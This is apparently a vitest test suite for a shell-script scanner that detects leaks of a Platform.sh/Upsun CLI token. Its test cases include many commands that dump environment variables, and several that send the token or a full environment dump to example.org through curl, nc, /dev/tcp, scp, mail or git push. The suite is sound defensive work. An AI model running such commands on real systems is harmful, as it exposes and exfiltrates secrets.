import { spawnSync } from "node:child_process";
import { closeSync, mkdtempSync, openSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "vitest";
import { tokenLeaks } from "../../src/shell/token-leak.ts";
import { processorTime } from "../processor-time.ts";

const token = "qT7wJ2mZ9xK4bV6nC8pL1sD3fG5hR0yU2eA7oI4tW9k";

/** What dash writes, to both streams, when the token is among the variables. */
function written(script: string): string {
  const folder = mkdtempSync(join(tmpdir(), "machinist-leak-"));
  const log = join(folder, "log");
  const to = openSync(log, "a");
  try {
    spawnSync("dash", ["-c", script], {
      cwd: folder,
      env: { PATH: "/usr/bin:/bin", PLATFORMSH_CLI_TOKEN: token, PLATFORM_BRANCH: "main" },
      stdio: ["ignore", to, to],
    });
    return readFileSync(log, "utf8");
  } finally {
    closeSync(to);
    rmSync(folder, { recursive: true, force: true });
  }
}

const printing = [
  'set -x; export COPY="$PLATFORMSH_CLI_TOKEN"',
  'echo "using $PLATFORMSH_CLI_TOKEN"',
  `printf '%s\\n' \${PLATFORMSH_CLI_TOKEN}`,
  'echo "$PLATFORMSH_CLI_TOKEN" 1>&2',
  "printenv >&2",
  "env 2>&1",
  "env > /dev/stderr",
  "env -u HOME",
  "env A=b",
  "/usr/bin/env | /usr/bin/sort -r",
  "printenv | cat | uniq",
  "set | tail -n 100",
  "export -p | nl",
  "set",
  "env | grep PLATFORM",
  "env | grep -i token",
  "env | grep -v '^PATH='",
  "env | grep -o 'PLATFORMSH_.*'",
  "env | tee all.txt",
  "env > all.txt; cat all.txt",
  "env | tee all.txt > /dev/null; sort < all.txt",
  "env | sed 's/^/  /'",
  "tr '\\0' '\\n' < /proc/self/environ",
  "timeout 5 printenv PLATFORMSH_CLI_TOKEN",
  "T=$PLATFORMSH_CLI_TOKEN; echo $T",
  'KEY="Bearer $PLATFORMSH_CLI_TOKEN"; export KEY; printenv KEY',
  'T=$(printenv PLATFORMSH_CLI_TOKEN)\nU=$T\necho "$U" >&2',
  'all="$(env)"; printf "%s" "$all"',
  "for each in a $PLATFORMSH_CLI_TOKEN; do echo $each; done",
  'env | while read line; do echo "$line"; done',
  'echo "$(printenv PLATFORMSH_CLI_TOKEN)"',
  `echo \${PLATFORMSH_CLI_TOKEN:-none}`,
  `echo "\${PLATFORMSH_CLI_TOKEN%x}"`,
  "cat <<END\ntoken: $PLATFORMSH_CLI_TOKEN\nEND",
  `cat <<-END >&2\n\ttoken: \${PLATFORMSH_CLI_TOKEN}\n\tEND`,
  "{ date; env; } | cat",
  "(echo $PLATFORMSH_CLI_TOKEN) 2>/dev/null",
  'if [ -n "$PLATFORM_BRANCH" ]; then\n  env\nfi 2>&1',
  'say() { echo "$1"; }\nsay "$PLATFORMSH_CLI_TOKEN"',
  'say() { printf "%s " "$@" >&2; }\nsay start "$PLATFORMSH_CLI_TOKEN"',
  'set -- one "$PLATFORMSH_CLI_TOKEN"; echo "$2"',
  "both() { env; }\nboth | sort",
  "eval 'echo $PLATFORMSH_CLI_TOKEN'",
  'eval "echo \\$PLATFORMSH_CLI_TOKEN"',
  'sh -c "echo \\"\\$PLATFORMSH_CLI_TOKEN\\""',
  "sh -c 'env'",
  'dash -c "echo $PLATFORMSH_CLI_TOKEN"',
  "set -x\ntrue $PLATFORMSH_CLI_TOKEN",
  "set -o xtrace\nT=$PLATFORMSH_CLI_TOKEN",
  "echo $PLATFORMSH_CLI_TOKEN | xargs echo",
  "env > a; cp a b; cat a",
  "env > a; cp a b; cat b",
  "cp /proc/self/environ a; cat a",
  "strings /proc/self/environ",
  "xargs -0 < /proc/self/environ",
  "dd if=/proc/self/environ",
  "env | xargs",
  "env -0 | tr '\\0' '\\n'",
  "awk 'BEGIN { for (k in ENVIRON) print ENVIRON[k] }'",
  "env | awk '{ print }'",
  "env | awk -F= '{print $2}'",
  "env | awk '/TOKEN/ { print $1 }'",
  "env | cut -d= -f2-",
  "printenv | grep TOKEN | cut -d= -f2",
  "echo $PLATFORMSH_CLI_TOKEN | cut -c1-99",
  "env | sed -n '/TOKEN/p'",
  "env | sed 's/=/: /'",
  "env | sed -e '1d'",
  "echo \"$PLATFORMSH_CLI_TOKEN\" | sed 's/.*/[&]/'",
  "env | grep 'CLI[_]TOKEN'",
  "env | egrep '^PLATFORM(SH)?_'",
  "env | grep ''",
  "env | grep -n ''",
  "env | grep -eCLI",
  "env | grep -e FOO -e TOKEN",
  "env | grep --regexp=TOKEN",
  "env | grep -A 2 TOKEN",
  "env | grep -- TOKEN",
  'echo "$PLATFORMSH_CLI_TOKEN" | cut -d" " -f1',
  "env | awk '/TOKEN/'",
  "env | sed 's|a\\||b|'",
  "sh -xc 'true $PLATFORMSH_CLI_TOKEN'",
  "bash -x -c 'true $PLATFORMSH_CLI_TOKEN'",
  "bash -c 'declare -p'",
  "bash -c 'cat <<< \"$PLATFORMSH_CLI_TOKEN\"'",
  `bash -c 'T=PLATFORMSH_CLI_TOKEN; echo \${!T}'`,
  "trap 'echo $PLATFORMSH_CLI_TOKEN' EXIT",
  "T=PLATFORMSH_CLI_TOKEN; printenv $T",
  "printenv $(echo PLATFORMSH_CLI_TOKEN)",
  "for each in PLATFORM_BRANCH PLATFORMSH_CLI_TOKEN; do printenv $each; done",
  "env X=$PLATFORMSH_CLI_TOKEN sh -c 'echo $X'",
  "X=$PLATFORMSH_CLI_TOKEN sh -c 'echo $X'",
  "read T <<END\n$PLATFORMSH_CLI_TOKEN\nEND\necho $T",
  "printenv | while IFS='=' read -r k v; do echo \"$v\"; done",
  "exec 2>&1\nenv >&2",
  "(env) &\nwait",
  "exec 3>&1\nenv >&3",
  "exec 4>&2 >/dev/null\necho $PLATFORMSH_CLI_TOKEN >&4",
  "bash -c 'declare -p PLATFORMSH_CLI_TOKEN'",
  `bash -c 'for each in $(compgen -e); do echo "$each=\${!each}"; done'`,
  `bash -c 'compgen -v | while read -r each; do echo "$each=\${!each}"; done'`,
  `env | awk -F= '{ print $1 " is " $2 }'`,
  'NAME=PLATFORMSH_CLI_TOKEN; eval "echo \\$$NAME"',
  "for each in HOME PLATFORMSH_CLI_TOKEN; do eval echo \\$$each; done",
  'echo TOKEN | sed "s/TOKEN/$PLATFORMSH_CLI_TOKEN/"',
  "flock lock -c env",
  "env -u HOME sh -c env",
  "bash -xc '[[ -n $PLATFORMSH_CLI_TOKEN ]]'",
];

test.each(printing)("what dash is seen to print is found: %j", (script) => {
  expect(written(script)).toContain(token);
  expect(tokenLeaks(script, true)).toHaveLength(1);
});

const silent = [
  "printenv PLATFORM_BRANCH",
  "env A=b true",
  "env -i",
  "env -u PLATFORMSH_CLI_TOKEN",
  "env > all.txt",
  "printenv > /dev/null",
  "env | grep -c TOKEN",
  "env | grep -m 3 '^PATH'",
  "env | grep -L ''",
  "env | grep -v -e TOKEN -e PATH",
  "env | grep -m 5 -e PATH TOKEN",
  'echo "$PLATFORMSH_CLI_TOKEN" | cut -s -d" " -f1',
  "env | awk '/^PATH/'",
  "env | grep -q PLATFORM",
  "env | grep '^PATH'",
  "env | grep -v TOKEN",
  "env | grep -o '^PLATFORM[A-Z_]*='",
  "env | cut -d= -f1",
  "env | wc -l",
  "env | sort > sorted.txt",
  "env >/dev/null 2>&1",
  "exec >/dev/null 2>&1\nenv",
  "{ date; env; } > all.txt",
  "export A=b",
  "set -e",
  "set -- a b",
  "unset PLATFORMSH_CLI_TOKEN; env",
  `echo "\${#PLATFORMSH_CLI_TOKEN}"`,
  `echo "\${PLATFORMSH_CLI_TOKEN:+there}"`,
  `: "\${PLATFORMSH_CLI_TOKEN:?is missing}"`,
  "echo '$PLATFORMSH_CLI_TOKEN'",
  'echo "\\$PLATFORMSH_CLI_TOKEN"',
  "T=$PLATFORMSH_CLI_TOKEN; T=; echo $T",
  'T=$(printenv PLATFORMSH_CLI_TOKEN); test -n "$T" && echo set',
  "cat <<'END'\n$PLATFORMSH_CLI_TOKEN\nEND",
  "cat <<END > netrc\npassword $PLATFORMSH_CLI_TOKEN\nEND",
  "printf '%s' \"$PLATFORMSH_CLI_TOKEN\" | sha256sum",
  'say() { echo "$1"; }\nsay hello "$PLATFORMSH_CLI_TOKEN"',
  'second() { echo "$2"; }\nsecond "$PLATFORMSH_CLI_TOKEN" two',
  "unused() { env; }",
  "get() { printenv PLATFORMSH_CLI_TOKEN; }\nT=$(get)",
  "set -x\ntrue\nset +x\ntrue $PLATFORMSH_CLI_TOKEN",
  "sh -c 'echo hello' $PLATFORMSH_CLI_TOKEN",
  "env | awk -F= '{print $1}'",
  "env | awk '/^PATH/ { print $1 }'",
  "env | awk -F = '{ print $1 }' | sort",
  "env | cut -d= -f 1",
  "env | sed 's/=.*//'",
  "env | sed 's/TOKEN=.*/TOKEN=***/'",
  "env | sed -n '/^PATH/p'",
  "env | sed '/TOKEN/d'",
  "env | sed -n 1p > first.txt",
  "awk 'BEGIN { print ENVIRON[\"PLATFORM_BRANCH\"] }'",
  "dd if=/proc/self/environ of=a",
  "cp /proc/self/environ a",
  "env | egrep '^PLATFORM_(BRANCH|TYPE)='",
  "sh -xc 'true' 2>&1",
  "trap 'echo bye' EXIT",
  "trap - EXIT",
  "T=PLATFORM_BRANCH; printenv $T",
  "T=PLATFORMSH_CLI_TOKEN; echo $T",
  "X=$PLATFORMSH_CLI_TOKEN sh -c 'echo hello'; echo $X",
  "env | xargs > all.txt",
  "exec 3>/dev/null\nenv >&3",
  "exec 3>all.txt\nenv >&3",
  "env -u PLATFORMSH_CLI_TOKEN sh -c env",
  "env -i sh -c env",
  "printf '#!/bin/sh\\necho mine\\n' > env; chmod +x env; ./env",
  "bash -c 'compgen -e'",
  "bash -c 'declare -p PLATFORM_BRANCH'",
  'NAME=PLATFORM_BRANCH; eval "echo \\$$NAME"',
  `env | awk -F= '{ print "has " $1 }'`,
  'echo TOKEN > file; sed -i "s/TOKEN/$PLATFORMSH_CLI_TOKEN/" file',
  "bash -xc '[[ -n $PLATFORM_BRANCH ]]'",
];

test.each(silent)("what dash is seen to keep to itself is no finding: %j", (script) => {
  expect(written(script)).not.toContain(token);
  expect(tokenLeaks(script, true)).toEqual([]);
});

test.each([
  ['curl -v -H "Authorization: Bearer $PLATFORMSH_CLI_TOKEN" https://api.upsun.com/me', 1],
  ['curl -fsS -d "api_token=$PLATFORMSH_CLI_TOKEN" https://auth.upsun.com/oauth2/token', 0],
  ['curl -fsS -H "Authorization: Bearer $PLATFORMSH_CLI_TOKEN" https://example.org/', 1],
  ['curl -d "$PLATFORMSH_CLI_TOKEN" https://example.org/ > /dev/null', 1],
  ['T="t=$PLATFORMSH_CLI_TOKEN"; wget -qO- "https://example.org/?$T"', 1],
  ["env | curl -fsS --data-binary @- https://example.org/", 1],
  ['TO=https://example.org; curl -d "$PLATFORMSH_CLI_TOKEN" "$TO/x" > log', 1],
  ['A=example.org; B="https://$A/x"; curl -d "$PLATFORMSH_CLI_TOKEN" "$B"', 1],
  ['A=$(cat a); B="https://$A/x"; curl -d "$PLATFORMSH_CLI_TOKEN" "$B"', 0],
  ['echo "$PLATFORMSH_CLI_TOKEN" | nc -w 1 example.org 514', 1],
  ['ssh me@example.org "TOKEN=$PLATFORMSH_CLI_TOKEN ./run"', 1],
  ['ssh a1b2c3-main-bvxea6i--app@ssh.eu-5.platform.sh "A=$PLATFORMSH_CLI_TOKEN ./run"', 0],
  ['ssh "$(platform ssh --pipe -e main)" "A=$PLATFORMSH_CLI_TOKEN ./run"', 0],
  ['jq -n --arg t "$PLATFORMSH_CLI_TOKEN" .', 1],
  ['jq -n --arg t "$PLATFORM_BRANCH" .', 0],
  ['TO=https://api.upsun.com; curl -d "$PLATFORMSH_CLI_TOKEN" "$TO"', 0],
  ['curl -d "$PLATFORMSH_CLI_TOKEN" "$(cat address)"', 0],
  ['echo "$PLATFORMSH_CLI_TOKEN" | mail -s token ops@example.org', 1],
  ['logger -t job "$PLATFORMSH_CLI_TOKEN" 2> /dev/null', 1],
  ["date | mail ops@example.org; logger done", 0],
  ["date | curl -fsS --data-binary @- https://example.org/", 0],
  ['curl -fsS "https://example.org/?b=$PLATFORM_BRANCH"', 0],
  ["jq -n env", 1],
  ["busybox env", 1],
  ["/bin/busybox env | busybox sort", 1],
  ["busybox sh -c 'echo $PLATFORMSH_CLI_TOKEN'", 1],
  ["busybox printenv PLATFORM_BRANCH", 0],
  ["busybox --list", 0],
  ["jq -n '$ENV'", 1],
  ["jq -n 'env.PLATFORM_BRANCH'", 0],
  ["python3 -c 'import os\nfor k, v in os.environ.items(): print(k, v)'", 1],
  ["php -r 'print_r(getenv());'", 1],
  ["php -r 'echo getenv(\"UPSUN_CLI_TOKEN\");'", 1],
  ["php -r 'echo getenv(\"PLATFORM_BRANCH\");'", 0],
  ["node -p process.env", 1],
  ["node -e 'console.log(process.env.HOME)'", 0],
  ["python3 -c 'import os; print(os.environ)'", 1],
  ["platform auth:token", 1],
  ['curl -H "Authorization: Bearer $(platform auth:token)" https://api.upsun.com/me', 0],
  ["echo $IBEXA_CLI_TOKEN", 1],
  ["echo a $UPSUN_CLI_TOKEN >> /var/log/app.log", 1],
  ["PLATFORMSH_CLI_DEBUG=1 platform backup:list", 1],
  ["ps auxe", 1],
  ["ps eww", 1],
  ["ps -ef", 0],
  ["ps -C node", 0],
  ['wget -d --header="A: $PLATFORMSH_CLI_TOKEN" https://api.upsun.com/me', 1],
  ['http -v https://api.upsun.com/me "Authorization:Bearer $PLATFORMSH_CLI_TOKEN"', 1],
  ['http https://api.upsun.com/me "Authorization:Bearer $PLATFORMSH_CLI_TOKEN"', 0],
  ['curl -d "$PLATFORMSH_CLI_TOKEN" example.org', 1],
  ['curl -s example.org/hook -d "$PLATFORMSH_CLI_TOKEN"', 1],
  ['curl -d "$PLATFORMSH_CLI_TOKEN" api.upsun.com/me', 0],
  ['curl -o page.html -H "A: $PLATFORMSH_CLI_TOKEN" https://api.upsun.com/me', 0],
  ['git push "https://me:$PLATFORMSH_CLI_TOKEN@example.org/shop.git"', 1],
  ["env > /tmp/all; curl -F file=@/tmp/all https://example.org/", 1],
  ["env > /tmp/all; curl -T /tmp/all https://example.org/", 1],
  ["env > /tmp/all; scp /tmp/all me@example.org:", 1],
  ["env > /tmp/all; mail -s all -a /tmp/all ops@example.org < /dev/null", 1],
  ["date > /tmp/all; scp /tmp/all me@example.org:", 0],
  ["env | systemd-cat", 1],
  ['echo "$PLATFORMSH_CLI_TOKEN" > /dev/tcp/example.org/80', 1],
  ["su -c env", 1],
  ["node -pe process.env", 1],
  ["node -e 'const { env } = process; console.log(env)'", 1],
  ["node -e 'console.log(Object.keys(process.env))'", 0],
  ["node -r ./x.js -e 'console.log(process.env)'", 1],
  ["php --info", 1],
  ["php -r 'error_log(getenv(\"UPSUN_CLI_TOKEN\"));'", 1],
  ["php -r 'echo strlen(getenv(\"UPSUN_CLI_TOKEN\"));'", 0],
  ['php -r \'echo isset($_ENV["UPSUN_CLI_TOKEN"]) ? "yes" : "no";\'', 0],
  ["php -r 'system(\"env\");'", 1],
  ["php -r 'passthru(\"env | grep -c A\");'", 0],
  ["php -r 'echo shell_exec(\"printenv\");'", 1],
  ["php -r '$all = shell_exec(\"printenv\");'", 0],
  ["drush ev 'print_r(getenv());'", 1],
  ["vendor/bin/drush php:eval 'print_r(getenv());'", 1],
  ["wp eval 'var_dump($_ENV);'", 1],
  ["php artisan tinker --execute='dump(getenv());'", 1],
  ["python3 -uc 'from os import environ; print(environ)'", 1],
  ["python3 -c 'import os, pprint; pprint.pprint(dict(os.environ))'", 1],
  ["python3 -c 'import os; print(\"UPSUN_CLI_TOKEN\" in os.environ)'", 0],
  ["python3 -c 'import os; print(len(os.environ))'", 0],
  ["python3 -c 'import os; print(os.environ.keys())'", 0],
  ["python3 -c 'import os; os.system(\"env\")'", 1],
  ["python3 -c 'import subprocess; subprocess.run([\"printenv\"])'", 1],
  ["perl -le 'print $ENV{UPSUN_CLI_TOKEN}'", 1],
  [`perl -e 'print "$_\\n" for keys %ENV'`, 0],
  ["ruby -e 'p ENV'", 1],
  ["ruby -e 'puts ENV.to_a'", 1],
  ["ruby -e 'puts ENV.key?(\"UPSUN_CLI_TOKEN\")'", 0],
  ["rails runner 'puts ENV.to_h'", 1],
])("what other programs print is known: %j", (script, count) => {
  expect(tokenLeaks(script, true)).toHaveLength(count);
});

test("all variables show no token where none of them holds one", () => {
  expect(tokenLeaks("env | sort; cat /proc/self/environ", false)).toEqual([]);
});

test.each([
  "printenv UPSUN_CLI_TO''KEN",
  "printenv UPSUN_CLI_TO\\\nKEN",
  'printenv UPSUN_CLI_TO$"KEN"',
  "printenv $'UPSUN_CLI_T\\x4fKEN'",
  `A=TOK; eval "echo \\$UPSUN_CLI_\${A}EN"`,
  `A=TO; B=UPSUN_CLI_\${A}KEN; bash -c "printenv $B"`,
  'A=form; trap "plat$A auth:token" EXIT',
])(
  "the token is found where nobody has said that it is there, however it is named: %j",
  (script) => {
    expect(tokenLeaks(script, false)).toHaveLength(1);
  },
);

test.each([
  ["bash bin/say.sh", []],
  ['bash bin/say.sh "$PLATFORMSH_CLI_TOKEN"', ["prints the token"]],
  ['bash bin/say.sh "$PLATFORMSH_CLI_TOKEN" > /dev/null', []],
  ["WORD=$PLATFORMSH_CLI_TOKEN; bash bin/word.sh", []],
  ['export WORD="$PLATFORMSH_CLI_TOKEN"; bash bin/word.sh', ["prints the token"]],
  ['WORD="$PLATFORMSH_CLI_TOKEN" ./bin/word.sh', ["prints the token"]],
  [". bin/log.sh; log done", []],
  ['. ./bin/log.sh; log "$PLATFORMSH_CLI_TOKEN"', ["prints the token"]],
  [". /app/bin/set.sh; echo $COPY", ["prints the token"]],
  ["bash -x bin/sign-in.sh", ["traces a command with the token"]],
  ["bash bin/sign-in.sh", []],
  ["sh bin/all.sh", []],
  ["sh bin/itself.sh", []],
])("what a script writes for what it is given is found where it is called: %j", (script, says) => {
  const files = new Map([
    ["bin/say.sh", 'echo "hello $1"\n'],
    ["bin/word.sh", "echo $WORD\n"],
    ["bin/log.sh", 'log() { echo "$(date) $*"; }\n'],
    ["bin/set.sh", "COPY=$PLATFORMSH_CLI_TOKEN\n"],
    ["bin/sign-in.sh", 'sign-in "$PLATFORMSH_CLI_TOKEN"\n'],
    ["bin/all.sh", "env\n"],
    ["bin/itself.sh", "sh bin/itself.sh; sh bin/itself.sh\n"],
  ]);
  expect(tokenLeaks(script, true, { files }).map((leak) => leak.says)).toEqual(says);
});

test("a variable that is doubled again and again ends nothing", () => {
  const script = `A=x\n${'A="$A$A"\n'.repeat(40)}echo $A $PLATFORMSH_CLI_TOKEN`;
  expect(tokenLeaks(script, true)).toHaveLength(1);
});

test("scripts that call one another in a row are followed, however many there are", () => {
  const paths = Array.from({ length: 1000 }, (_, index) => `bin/${index}.sh`);
  const files = new Map(
    paths.map((path, at) => [path, `echo $1\nsh ${paths[at + 1] ?? "bin/0.sh"}\n`]),
  );
  expect(tokenLeaks("sh bin/0.sh $PLATFORMSH_CLI_TOKEN", true, { files })).toHaveLength(1);
});

test.each(["bash bin/keep.sh $PLATFORMSH_CLI_TOKEN", '. bin/keep.sh "$PLATFORMSH_CLI_TOKEN"'])(
  "a file that only copies of the data have is no other one when a called script writes it: %j",
  (script) => {
    const files = new Map([["bin/keep.sh", 'echo "$1" > private/kept\n']]);
    const leaks = tokenLeaks(script, true, { files, reachOf: () => "copies" });
    expect(leaks).toEqual([expect.objectContaining({ isKept: true })]);
  },
);

test("what every shell reads first counts", () => {
  const before = "export COPY=$PLATFORMSH_CLI_TOKEN; env";
  expect(tokenLeaks("echo $COPY", true, { before })).toEqual([
    { says: "prints the token", start: 0, end: 10 },
  ]);
});

test("what comes through a pipe is pointed at with the pipe", () => {
  const script = "date\nenv | sort | tee log\n";
  expect(tokenLeaks(script, true)).toEqual([
    { says: "prints all variables, the token too", start: 5, end: 25 },
  ]);
});

test.each([
  "f() { f; f; f; f; f; f; f; f; env; }\nf",
  "a() { b; b; }\nb() { a; a; }\na | a | a",
  `${"$(".repeat(400)}env${")".repeat(400)}`,
  `env | grep '${"(.*)*".repeat(20)}x'`,
  `env | sed 's${"/a".repeat(30_000)}'`,
])("a script that is made to take very long is left soon: %#", (script) => {
  const seconds = processorTime();
  tokenLeaks(script, true);
  expect(seconds()).toBeLessThan(2);
});
